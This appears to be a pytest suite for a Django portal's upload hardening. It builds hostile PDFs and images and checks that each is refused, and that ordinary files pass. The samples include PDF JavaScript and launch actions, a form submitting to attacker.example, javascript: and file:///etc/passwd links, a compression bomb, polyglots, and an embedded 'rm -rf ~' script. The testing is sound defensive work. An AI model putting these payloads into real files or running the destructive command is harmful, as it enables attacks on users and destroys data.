"""Hardened uploads: a corpus of hostile files made here, every one refused, and ordinary PDFs
and images accepted. Judged by parsing in the sandboxed child process, as uploads are."""

import io
import zlib

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from pypdf import PdfWriter
from weasyprint import HTML

from agreements import sandbox
from agreements.uploads import PDF_OR_IMAGE, read_upload
from portal_kit.errors import ActionRefused
from tests.agreements.corpus import (
    HTML_PAGE,
    append_revision,
    build_pdf,
    image_bytes,
    link,
    object_inside_stream_data,
    object_stream,
    pdf_with_link,
    pdf_with_outline,
    png_chunk,
    pyhanko_object_streams_pdf,
    small_zip,
    stream,
    uri,
)


def flate_bomb(inflated_megabytes: int) -> bytes:
    packer = zlib.compressobj(9)
    chunk = b"\0" * (1024 * 1024)
    data = b"".join(packer.compress(chunk) for _ in range(inflated_megabytes)) + packer.flush()
    return stream(data, b"/Filter /FlateDecode")


def pypdf_pdf(pages: int = 1, password: str = "") -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=595, height=842)
    if password:
        writer.encrypt(password)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def weasyprint_pdf() -> bytes:
    png = "data:image/png;base64," + __import__("base64").b64encode(image_bytes("PNG")).decode()
    return HTML(
        string=f"<h1>Evidence</h1><p><a href='https://example.org'>policy</a></p><img src='{png}'>"
    ).write_pdf()


JS_ACTION = b"<< /S /JavaScript /JS (app.alert(1)) >>"
GOTO = b"<< /S /GoTo /D [3 0 R /Fit] >>"

HOSTILE = {
    "renamed executable": (b"MZ\x90\x00\x03" + b"\0" * 200, "must be a PDF"),
    "ELF binary named .pdf": (b"\x7fELF\x02\x01\x01" + b"\0" * 200, "must be a PDF"),
    "HTML before the PDF": (b"<html><script>alert(1)</script>\n" + build_pdf(), "must be a PDF"),
    "HTML inside the PDF": (
        build_pdf(tail=b"<html><body><script>alert(1)</script></body></html>\n%%EOF\n"),
        "holds HTML",
    ),
    "JavaScript": (
        build_pdf(
            b"<< /Names [(a) 5 0 R] >>", JS_ACTION, catalog=b"/Names << /JavaScript 4 0 R >>"
        ),
        "JavaScript",
    ),
    "an action on opening": (build_pdf(GOTO, catalog=b"/OpenAction 4 0 R"), "/OpenAction"),
    "automatic actions": (build_pdf(GOTO, page=b"/AA << /O 4 0 R >>"), "/AA"),
    "a launch action": (
        build_pdf(
            b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (calc.exe) >> >>",
            page=b"/Annots [4 0 R]",
        ),
        "/Launch",
    ),
    "an embedded file": (
        build_pdf(
            b"<< /Names [(a.exe) 5 0 R] >>",
            b"<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>",
            stream(b"MZ\x90\x00", b"/Type /EmbeddedFile"),
            catalog=b"/Names << /EmbeddedFiles 4 0 R >>",
        ),
        "embedded",
    ),
    "an XFA form": (
        build_pdf(stream(b"<xdp:xdp/>"), catalog=b"/AcroForm << /Fields [] /XFA 4 0 R >>"),
        "/XFA",
    ),
    "rich media": (
        build_pdf(
            b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>", page=b"/Annots [4 0 R]"
        ),
        "/RichMedia",
    ),
    "a link to another file": (
        build_pdf(
            b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] "
            b"/A << /S /GoToR /F (\\\\attacker\\share\\x.pdf) /D [0 /Fit] >> >>",
            page=b"/Annots [4 0 R]",
        ),
        "/GoToR",
    ),
    "a form that submits": (
        build_pdf(
            b"<< /Type /Annot /Subtype /Widget /Rect [0 0 9 9] "
            b"/A << /S /SubmitForm /F (https://attacker.example/) >> >>",
            page=b"/Annots [4 0 R]",
        ),
        "/SubmitForm",
    ),
    "JavaScript with hex-escaped names": (
        build_pdf(
            b"<< /Names [(a) 5 0 R] >>",
            b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>",
            catalog=b"/Names << /J#61v#61Script 4 0 R >>",
        ),
        "JavaScript",
    ),
    "a compression bomb": (build_pdf(flate_bomb(300), page=b"/Contents 4 0 R"), "compression bomb"),
    "a truncated PDF": (build_pdf()[:150], "incomplete"),
    "an encrypted PDF": (pypdf_pdf(password="secret"), "password-protected"),
    "garbage after a PDF header": (
        b"%PDF-1.7\n" + b"\x13\x37" * 500 + b"\n%%EOF\n",
        "not part of any page or object",
    ),
    "a PDF without pages": (
        build_pdf().replace(b"/Kids [3 0 R] /Count 1", b"/Kids [] /Count 0"),
        "no pages",
    ),
}

NOT_A_WEB_LINK = "only https, http and mailto links may be in it"
CLEAN = build_pdf()
# Issue 11, class 1: a link may only lead to an https, http or mailto address, and a PDF may hold
# no action but those links, jumps within itself and page turning: wherever the action sits.
HOSTILE_LINKS = {
    "a javascript: link": (pdf_with_link(uri(b"(javascript:app.alert(1))")), "a javascript: link"),
    "a JaVaScRiPt: link": (pdf_with_link(uri(b"(JaVaScRiPt:app.alert(1))")), "a javascript:"),
    "a javascript: link as a hex string": (
        pdf_with_link(uri(b"<" + b"javascript:app.alert(1)".hex().encode() + b">")),
        "a javascript: link",
    ),
    "a javascript: link behind control characters": (
        pdf_with_link(uri(b"(\001\037 \tjavascript:app.alert(1))")),
        "a javascript: link",
    ),
    "a javascript: link split by a tab and a newline": (
        pdf_with_link(uri(b"(java\tscr\nipt:app.alert(1))")),
        "a javascript: link",
    ),
    "a file: link": (pdf_with_link(uri(b"(file:///etc/passwd)")), "a file: link"),
    "a FILE: link to a share": (pdf_with_link(uri(b"(FILE://attacker/share/x)")), "a file:"),
    "a data: link": (pdf_with_link(uri(b"(data:text/html,<b>hi</b>)")), "a data: link"),
    "a link with no scheme": (pdf_with_link(uri(b"(//attacker.example/)")), NOT_A_WEB_LINK),
    "a link that is not a string": (pdf_with_link(uri(b"/javascript")), "without an address"),
    "a javascript: link in an outline item": (
        pdf_with_outline(uri(b"(javascript:app.alert(1))")),
        "a javascript: link",
    ),
    "a javascript: link at the end of a /Next chain": (
        pdf_with_link(b"<< /S /GoTo /D [3 0 R /Fit] /Next 5 0 R >>", uri(b"(javascript:x)")),
        "a javascript: link",
    ),
    "a /GoToE hidden in a /Next chain": (
        pdf_with_link(
            b"<< /S /GoTo /D [3 0 R /Fit] /Next [5 0 R] >>",
            b"<< /S /GoToE /T << /R /C /N (payload.pdf) >> /D [0 /Fit] >>",
        ),
        "a link into an embedded file",
    ),
    "a /Launch hidden in a /Next chain of an outline item": (
        pdf_with_outline(b"<< /S /GoTo /D [3 0 R /Fit] /Next << /S /L#61unch /F (calc) >> >>"),
        "/Launch",
    ),
    "a /Next cycle ending in a javascript: link": (
        pdf_with_link(
            b"<< /S /GoTo /D [3 0 R /Fit] /Next 5 0 R >>",
            b"<< /S /GoTo /D [3 0 R /Fit] /Next 6 0 R >>",
            b"<< /S /URI /URI (javascript:x) /Next 5 0 R >>",
        ),
        "a javascript: link",
    ),
    "a hide action": (pdf_with_link(b"<< /S /Hide /T (field) >>"), "(/Hide)"),
    "a rendition action": (pdf_with_link(b"<< /S /Rendition /OP 0 >>"), "(/Rendition)"),
    "a named action that runs a menu item": (
        pdf_with_link(b"<< /S /Named /N /SaveAs >>"),
        "(/Named)",
    ),
    "an action of an unknown type": (pdf_with_link(b"<< /S /Detonate >>"), "(/Detonate)"),
    "a file attachment annotation": (
        build_pdf(
            b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 5 0 R >>",
            b"<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>",
            stream(b"MZ\x90\x00"),
            page=b"/Annots [4 0 R]",
        ),
        "(/FileAttachment)",
    ),
    "a screen annotation": (
        build_pdf(b"<< /Subtype /Screen /Rect [0 0 9 9] >>", page=b"/Annots [4 0 R]"),
        "(/Screen)",
    ),
    "a javascript: base for relative links": (
        build_pdf(catalog=b"/URI << /Base (javascript:x) >>"),
        "a javascript: link",
    ),
    "a javascript: link in an object stream": (
        build_pdf(object_stream({9: link(uri(b"(javascript:x)"))})),
        "a javascript: link",
    ),
    "a javascript: link where the file's syntax says stream data": (
        object_inside_stream_data(link(uri(b"(javascript:app.alert(1))"))),
        "a javascript: link",
    ),
    "a javascript: link in a compressed object stream (pyHanko)": (
        pyhanko_object_streams_pdf("javascript:app.alert(1)"),
        "a javascript: link",
    ),
    "a javascript: link added by an incremental update": (
        append_revision(
            CLEAN,
            {
                3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [4 0 R] >>",
                4: link(uri(b"(javascript:app.alert(1))")),
            },
        ),
        "a javascript: link",
    ),
    "a javascript: link in a revision that a later one hides": (
        append_revision(
            pdf_with_link(uri(b"(javascript:app.alert(1))")),
            {
                3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
                4: b"null",
            },
        ),
        "a javascript: link",
    ),
}
# Class 2: a file that is also another file (a polyglot).
HOSTILE_POLYGLOTS = {
    "a ZIP archive after %%EOF": (CLEAN + small_zip(), "after the PDF's last %%EOF"),
    "a program after %%EOF": (CLEAN + b"MZ\x90\x00\x03", "after the PDF's last %%EOF"),
    "HTML after %%EOF": (CLEAN + HTML_PAGE, "after the PDF's last %%EOF"),
    "text after %%EOF": (CLEAN + b"\nhello", "after the PDF's last %%EOF"),
    "a ZIP archive in an incremental update": (
        append_revision(CLEAN, {5: b"null"}, between=small_zip()),
        "also a ZIP archive",
    ),
    "a shell script between revisions": (
        append_revision(CLEAN, {5: b"null"}, between=b"#!/bin/sh\nrm -rf ~\n"),
        "not part of any page or object",
    ),
    "a ZIP archive in the last stream": (
        build_pdf(stream(small_zip())),
        "also a ZIP archive",
    ),
}
HOSTILE |= HOSTILE_LINKS | HOSTILE_POLYGLOTS


@pytest.mark.parametrize("name", list(HOSTILE))
def test_every_hostile_upload_is_refused_saying_why(name):
    content, reason = HOSTILE[name]
    upload = SimpleUploadedFile("evidence.pdf", content, content_type="application/pdf")

    with pytest.raises(ActionRefused) as refusal:
        read_upload(upload, what="evidence")

    assert str(refusal.value).startswith("The evidence was not accepted.")
    assert reason in str(refusal.value)


def test_an_oversized_upload_is_refused_before_it_is_parsed(settings):
    settings.UPLOAD_MAX_BYTES = 1024
    upload = SimpleUploadedFile("big.pdf", pypdf_pdf() + b"%" * 2048)
    with pytest.raises(ActionRefused, match="must be no larger than"):
        read_upload(upload, what="evidence")


def pypdf_with_links_and_outline() -> bytes:
    from pypdf.annotations import Link
    from pypdf.generic import DictionaryObject, NameObject, TextStringObject

    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.add_blank_page(width=595, height=842)
    writer.add_outline_item(title="Second page", page_number=1)
    for number, address in enumerate(["https://example.org", "http://example.org", "mailto:a@b"]):
        annotation = Link(rect=(10, 10 + 30 * number, 200, 30 + 30 * number), target_page_index=1)
        annotation[NameObject("/A")] = DictionaryObject(
            {NameObject("/S"): NameObject("/URI"), NameObject("/URI"): TextStringObject(address)}
        )
        del annotation["/Dest"]
        writer.add_annotation(0, annotation)
    writer.add_annotation(1, Link(rect=(10, 10, 200, 30), target_page_index=0))
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def cairo_pdf() -> bytes:
    """The WeasyPrint PDF written again by poppler's cairo writer: another producer's syntax."""
    import subprocess
    import tempfile
    from pathlib import Path

    with tempfile.TemporaryDirectory() as folder:
        source, target = Path(folder) / "in.pdf", Path(folder) / "out.pdf"
        source.write_bytes(weasyprint_pdf())
        subprocess.run(["pdftocairo", "-pdf", str(source), str(target)], check=True)
        return target.read_bytes()


def incremental_update_with_a_web_link() -> bytes:
    """An update adding an https link, as a second signer's tool would append its revision."""
    return (
        append_revision(
            build_pdf(),
            {
                3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [4 0 R] >>",
                4: link(uri(b"(HTTPS://example.org/policy)")),
            },
        )
        + b"\r\n\0 \n"
    )


ORDINARY = {
    "a blank page (pypdf)": pypdf_pdf,
    "links to https, http and mailto, an outline, a jump (pypdf)": pypdf_with_links_and_outline,
    "an incremental update adding an https link": incremental_update_with_a_web_link,
    "a /Next chain and cycle of jumps and page turns": lambda: pdf_with_link(
        b"<< /S /GoTo /D [3 0 R /Fit] /Next 5 0 R >>",
        b"<< /S /Named /N /NextPage /Next [4 0 R 5 0 R] >>",
    ),
    "three pages (pypdf)": lambda: pypdf_pdf(pages=3),
    "written by hand": build_pdf,
    "WeasyPrint, with an image and a link": weasyprint_pdf,
    "poppler's cairo writer, with an image and a link": cairo_pdf,
    "an https link in a compressed object stream (pyHanko)": pyhanko_object_streams_pdf,
}


@pytest.mark.parametrize("name", list(ORDINARY))
def test_ordinary_pdfs_are_accepted(name):
    content = ORDINARY[name]()
    _, digest, inspection = read_upload(SimpleUploadedFile("ok.pdf", content), what="evidence")
    assert inspection.kind == "pdf" and inspection.pages >= 1
    assert len(digest) == 64


@pytest.mark.parametrize(("kind", "pillow_format"), [("png", "PNG"), ("jpeg", "JPEG")])
def test_images_are_accepted_where_a_criterion_allows_them_and_refused_elsewhere(
    kind, pillow_format
):
    content = image_bytes(pillow_format)
    _, _, inspection = read_upload(
        SimpleUploadedFile(f"shot.{kind}", content), what="evidence", allowed=PDF_OR_IMAGE
    )
    assert (inspection.kind, inspection.width, inspection.height) == (kind, 64, 48)
    with pytest.raises(ActionRefused, match="must be a PDF"):
        read_upload(SimpleUploadedFile(f"shot.{kind}", content), what="evidence")


IMAGE_POLYGLOTS = {
    "HTML after a JPEG's end marker": (
        image_bytes("JPEG") + HTML_PAGE,
        "after the image's end marker",
    ),
    "a ZIP after a JPEG's end marker": (image_bytes("JPEG") + small_zip(), "after the image's"),
    "a PDF after a JPEG's end marker": (image_bytes("JPEG") + build_pdf(), "after the image's"),
    "one byte after a JPEG's end marker": (image_bytes("JPEG") + b"\0", "after the image's"),
    "HTML after a PNG's IEND": (image_bytes("PNG") + HTML_PAGE, "after the image's IEND"),
    "a ZIP after a PNG's IEND": (image_bytes("PNG") + small_zip(), "after the image's IEND"),
    "HTML in a PNG's text chunk": (
        image_bytes("PNG")[:33]
        + png_chunk(b"tEXt", b"Comment\0" + HTML_PAGE)
        + image_bytes("PNG")[33:],
        "holds HTML as well as PNG image",
    ),
    "HTML in a JPEG's comment": (
        image_bytes("JPEG")[:2]
        + b"\xff\xfe"
        + (len(HTML_PAGE) + 2).to_bytes(2, "big")
        + HTML_PAGE
        + image_bytes("JPEG")[2:],
        "holds HTML as well as JPEG image",
    ),
}


@pytest.mark.parametrize("name", list(IMAGE_POLYGLOTS))
def test_an_image_that_is_also_another_file_is_refused(name):
    content, reason = IMAGE_POLYGLOTS[name]
    with pytest.raises(ActionRefused, match="evidence was not accepted") as refusal:
        read_upload(SimpleUploadedFile("shot", content), what="evidence", allowed=PDF_OR_IMAGE)
    assert reason in str(refusal.value)


def png_whose_pixels_spell_html() -> bytes:
    """Pixels stored uncompressed whose bytes read "<html ": pixels are not searched for HTML
    (compressed pixels would match by chance), only the image's other chunks."""
    import struct

    row = b"\0" + b"<html " * 10  # filter type 0, then 20 RGB pixels
    header = struct.pack(">IIBBBBB", 20, 1, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", zlib.compress(row, 0))
        + png_chunk(b"IEND", b"")
    )


ORDINARY_IMAGES = {
    "a PNG whose pixels spell <html": png_whose_pixels_spell_html,
    "a progressive JPEG": lambda: image_bytes("JPEG", progressive=True),
    "a JPEG with restart markers and an ICC profile": lambda: image_bytes(
        "JPEG", restart_marker_blocks=1, icc_profile=b"\0" * 200
    ),
    "a JPEG with EXIF": lambda: image_bytes("JPEG", exif=b"Exif\0\0MM\0*\0\0\0\x08\0\0"),
    "an optimised PNG": lambda: image_bytes("PNG", optimize=True),
}


@pytest.mark.parametrize("name", list(ORDINARY_IMAGES))
def test_ordinary_images_are_accepted(name):
    content = ORDINARY_IMAGES[name]()
    _, _, inspection = read_upload(
        SimpleUploadedFile("shot", content), what="evidence", allowed=PDF_OR_IMAGE
    )
    assert inspection.width in (64, 20)


def test_a_truncated_image_is_refused():
    content = image_bytes("PNG")[:-40]
    with pytest.raises(ActionRefused, match="could not be read as a PNG"):
        read_upload(SimpleUploadedFile("shot.png", content), what="evidence", allowed=PDF_OR_IMAGE)


def test_a_file_the_child_cannot_parse_within_its_memory_is_refused(monkeypatch):
    # With almost no memory the child dies while starting: what a hostile file would cause.
    monkeypatch.setattr(sandbox, "SANDBOX_MEMORY_BYTES", 16 * 1024 * 1024)
    with pytest.raises(ActionRefused, match="could not be checked safely"):
        read_upload(SimpleUploadedFile("ok.pdf", pypdf_pdf()), what="evidence")
